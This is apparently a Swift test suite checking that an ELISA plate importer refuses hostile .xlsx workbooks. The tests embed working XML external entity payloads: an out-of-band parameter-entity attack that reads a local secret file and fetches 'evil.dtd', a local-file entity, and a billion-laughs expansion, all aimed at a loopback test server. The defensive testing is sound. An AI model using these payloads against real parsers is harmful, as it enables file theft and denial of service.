import ELISA
import Foundation
import Testing
import TestSupport
import ZIPFoundation

/// .xlsx plate exports are ZIP archives of XML: a hostile one must not make FlowStudy read local files or reach a
/// server (XML external entities), nor expand entities without end.
@Suite("xlsx exports: no external entities, no DTD fetches, no entity expansion")
struct WorkbookEntityTests {
    /// A one-sheet workbook whose `part` (sharedStrings, workbook or sheet) starts with `doctype`.
    func workbook(doctypeIn part: String, _ doctype: String, entity: String = "") throws -> Data {
        let declaration = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        var parts = [
            "[Content_Types].xml": declaration + #"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#,
            "xl/workbook.xml": declaration + #"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Plate" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
            "xl/_rels/workbook.xml.rels": declaration + #"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>"#,
            "xl/sharedStrings.xml": declaration + #"<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>Well ENTITY</t></si></sst>"#,
            "xl/worksheets/sheet1.xml": declaration + #"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>0.5</v></c></row></sheetData></worksheet>"#,
        ]
        if let text = parts[part] {
            parts[part] = text.replacingOccurrences(of: declaration, with: declaration + doctype + "\n")
                .replacingOccurrences(of: "ENTITY", with: entity)
        }
        let archive = try Archive(accessMode: .create)
        for (path, text) in parts.sorted(by: { $0.key < $1.key }) {
            let data = Data(text.utf8)
            try archive.addEntry(with: path, type: .file, uncompressedSize: Int64(data.count)) { position, size in
                data.subdata(in: Int(position)..<Int(position) + size)
            }
        }
        return try #require(archive.data)
    }

    func expectRefused(_ data: Data, part: String) {
        #expect {
            _ = try PlateRead.read(data, file: "hostile.xlsx")
        } throws: { error in
            guard let error = error as? ELISAError else { return false }
            return error.code == .unsafeXML && error.place == "part " + part
        }
    }

    @Test("A parameter-entity out-of-band payload in any part sends nothing to the server it names")
    func outOfBandPayload() throws {
        let server = try LoopbackServer()
        defer { server.stop() }
        let folder = try TemporaryDirectory()
        try "secret-token-4711".write(toFile: folder.path("secret.txt"), atomically: false, encoding: .utf8)
        let payload = """
        <!DOCTYPE sst [
          <!ENTITY % file SYSTEM "file://\(folder.path("secret.txt"))">
          <!ENTITY % remote SYSTEM "http://127.0.0.1:\(server.port)/evil.dtd">
          %remote;
        ]>
        """
        for part in ["xl/sharedStrings.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"] {
            expectRefused(try workbook(doctypeIn: part, payload), part: part)
            expectRefused(try workbook(doctypeIn: part, "<!DOCTYPE x SYSTEM \"http://127.0.0.1:\(server.port)/subset.dtd\">"), part: part)
            expectRefused(try workbook(doctypeIn: part, "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://127.0.0.1:\(server.port)/e\">]>", entity: "&e;"), part: part)
        }
        Thread.sleep(forTimeInterval: 0.3)
        #expect(server.requests.isEmpty, "requests reached the loopback server: \(server.requests)")
    }

    @Test("An external general entity naming a local file is refused, and the file's bytes are never quoted")
    func localFileEntity() throws {
        let folder = try TemporaryDirectory()
        try "secret-token-4711".write(toFile: folder.path("secret.txt"), atomically: false, encoding: .utf8)
        let data = try workbook(doctypeIn: "xl/sharedStrings.xml",
                                "<!DOCTYPE sst [<!ENTITY x SYSTEM \"file://\(folder.path("secret.txt"))\">]>", entity: "&x;")
        do {
            let plates = try PlateRead.read(data, file: "hostile.xlsx")
            Issue.record("accepted: \(plates)")
        } catch {
            #expect(!"\(error)".contains("secret-token"))
        }
    }

    @Test("Billion laughs is refused before any expansion")
    func billionLaughs() throws {
        var entities = "<!ENTITY lol0 \"lol\">"
        for level in 1...9 { entities += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">" }
        expectRefused(try workbook(doctypeIn: "xl/sharedStrings.xml", "<!DOCTYPE sst [\(entities)]>", entity: "&lol9;"),
                      part: "xl/sharedStrings.xml")
    }
}
